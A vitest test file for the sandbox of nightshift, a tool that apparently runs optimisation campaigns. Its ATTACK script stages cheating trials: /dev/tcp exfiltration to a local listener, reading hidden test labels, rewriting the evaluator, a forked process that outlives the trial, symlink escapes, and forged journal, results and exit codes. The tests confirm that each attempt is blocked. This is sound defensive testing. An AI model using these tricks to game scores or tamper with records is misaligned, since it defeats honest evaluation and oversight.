// Trials written to cheat (issue 11), in a real code campaign (git worktrees, sandboxed by default)
// run through the real CLI: each attack is one trial of a grid over `attack`. Every one is stopped
// or ignored, its decision says why, and the ledger is unharmed (`nightshift verify` passes).
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, cliAsync, events, processesMatching, stateOf } from '../helpers.js';
import { makeRepo } from '../workspace/helpers.js';
import { allTrials, type TrialState } from '../../src/state.js';

// Each attack, if it worked, would print score=0 (a perfect score) and exit 0. `set -e`: the first
// refused step ends the trial with that step's error as its last line.
const ATTACK = `set -e
case "$1" in
  net)      bash -c "echo stolen > /dev/tcp/127.0.0.1/$PORT" ;;
  hidden)   cat labels/test.txt ;;
  evaluate) printf 'echo score=0\\n' > evaluate.sh ;;
  frozen)   echo 0 >> data/train.csv ;;
  fork)     setsid sh -c 'sleep 4; echo tampered > "$NIGHTSHIFT_TRIAL_DIR/late"; echo tampered >> "$VICTIM"' > /dev/null 2>&1 &
            echo "score=0.5 forked"; exit 0 ;;
  symlink)  ln -s "$VICTIM" escape && echo tampered >> escape ;;
  journal)  state="$NIGHTSHIFT_TRIAL_DIR/../.."
            ls "$state"
            echo '{"type":"trial.decided","forged":true}' >> "$state/journal.jsonl"
            printf 'forged\\tkeep\\n' >> "$state/results.tsv"
            echo "score=0.5 wrote the ledger"; exit 0 ;;
  exitcode) printf '0\\n' > "$NIGHTSHIFT_TRIAL_DIR/exit_code" ;;
  evallog)  ln -s "$NIGHTSHIFT_TRIAL_DIR/../../journal.jsonl" "$NIGHTSHIFT_TRIAL_DIR/evaluate.log"
            echo "score=0.5 planted a link"; exit 0 ;;
esac
echo "score=0 $1 worked"
`;
const ATTACKS = ['net', 'hidden', 'evaluate', 'frozen', 'fork', 'symlink', 'journal', 'exitcode', 'evallog'];
const SECRET = 'the-test-labels-SECRET';
/** A file outside the worktree the trial can see (read-only); not under /tmp, which is private inside. */
let victim: string;

let repo: string;
let out: string;
let trials: Map<string, TrialState>;
let connections = 0;
let listener: net.Server;

beforeAll(async () => {
  listener = net.createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const port = (listener.address() as net.AddressInfo).port;
  victim = path.join(fs.mkdtempSync('/var/tmp/nightshift-attack-'), 'victim.txt');
  fs.writeFileSync(victim, 'victim\n');
  repo = makeRepo({
    'attack.sh': ATTACK,
    'train.sh': 'echo score=1\n',
    'evaluate.sh': 'echo score=1\n',
    'data/train.csv': '1\n2\n',
    'labels/test.txt': SECRET + '\n',
    'campaign.yaml': `name: attacks
command: sh attack.sh {attack}
metric: { name: score, goal: minimize }
mutable: [train.sh]
frozen: [evaluate.sh, data/**]
evaluate: sh evaluate.sh
sandbox: { trials: code, hide: [labels/**] }
space:
  attack: { type: categorical, choices: [${ATTACKS.join(', ')}] }
proposer: grid
budget: { trials: ${ATTACKS.length} }
env: { PORT: "${port}", VICTIM: ${JSON.stringify(victim)} }
`,
  });
  const r = await cliAsync(['run', 'campaign.yaml', '--headless'], repo);
  expect(r.code, r.stderr + r.stdout).toBe(0);
  out = path.join(repo, '.nightshift', 'attacks');
  trials = new Map(allTrials(stateOf(out)).map((t) => [String(t.params.attack), t]));
}, 240_000);

afterAll(() => {
  listener?.close();
  if (victim) fs.rmSync(path.dirname(victim), { recursive: true, force: true });
});

const logOf = (t: TrialState) => fs.readFileSync(path.join(out, 'trials', String(t.id), 'output.log'), 'utf8');

const trial = (name: string) => trials.get(name)!;

describe('cheating trials in the sandbox', () => {
  it('every attack ran sandboxed and none scored', () => {
    expect([...trials.keys()].sort()).toEqual([...ATTACKS].sort());
    for (const e of events(out)) if (e.type === 'trial.started') expect(e.sandboxed).toBe(true);
    // The last line of the script runs only when every step of the attack went through.
    for (const t of trials.values()) expect(logOf(t), String(t.params.attack)).not.toMatch(/worked/);
  });

  it('opens a network connection to a listener on 127.0.0.1: refused inside, nothing reached the listener', () => {
    expect(trial('net').status).toBe('crash');
    expect(trial('net').reason).toMatch(/Network is unreachable|Connection refused/);
    expect(connections).toBe(0);
  });

  it('reads a hidden test-label file: absent inside', () => {
    expect(trial('hidden').status).toBe('crash');
    expect(trial('hidden').reason).toMatch(/labels\/test.txt: No such file/);
    expect(logOf(trial('hidden'))).not.toContain(SECRET);
  });

  it('edits the evaluator and a frozen data file: read-only inside', () => {
    for (const name of ['evaluate', 'frozen']) {
      expect(trial(name).status).toBe('crash');
      expect(trial(name).reason).toMatch(/Read-only file system/);
    }
  });

  it('forks a process that outlives the trial to tamper later: it died with the trial', async () => {
    expect(trial('fork').status).not.toBe('crash');
    // The fork would write 4 s after it started; give it time to try.
    await new Promise((r) => setTimeout(r, 5000));
    expect(processesMatching('echo tampered')).toEqual([]);
    expect(fs.existsSync(path.join(out, 'trials', String(trial('fork').id), 'late'))).toBe(false);
    expect(fs.readFileSync(victim, 'utf8')).toBe('victim\n');
  });

  it('symlinks out of its worktree and writes through it: read-only', () => {
    expect(trial('symlink').status).toBe('crash');
    expect(trial('symlink').reason).toMatch(/Read-only file system/);
    expect(fs.readFileSync(victim, 'utf8')).toBe('victim\n');
  });

  it('writes into the journal and results.tsv: they are not there inside; the real ones are untouched', () => {
    // Inside, the state directory holds only the mount points of this trial's own directory and worktree.
    const listing = logOf(trial('journal')).split('\n');
    expect(listing.slice(0, 2)).toEqual(['trials', 'worktrees']);
    expect(fs.readFileSync(path.join(out, 'journal.jsonl'), 'utf8')).not.toContain('forged');
    expect(fs.readFileSync(path.join(out, 'results.tsv'), 'utf8')).not.toContain('forged');
  });

  it('forges its exit_code: read-only, the crash stands', () => {
    expect(trial('exitcode').status).toBe('crash');
    expect(trial('exitcode').reason).toMatch(/Read-only file system/);
  });

  it('plants a symlink where the evaluator writes its log: the evaluator does not write through it', () => {
    const t = trial('evallog');
    expect(t.status).not.toBe('crash');
    expect(fs.lstatSync(path.join(out, 'trials', String(t.id), 'evaluate.log')).isSymbolicLink()).toBe(false);
  });

  it('the ledger is unharmed: nightshift verify passes', () => {
    const r = cli(['verify', 'campaign.yaml'], repo);
    expect(r.code, r.stdout + r.stderr).toBe(0);
  });
});
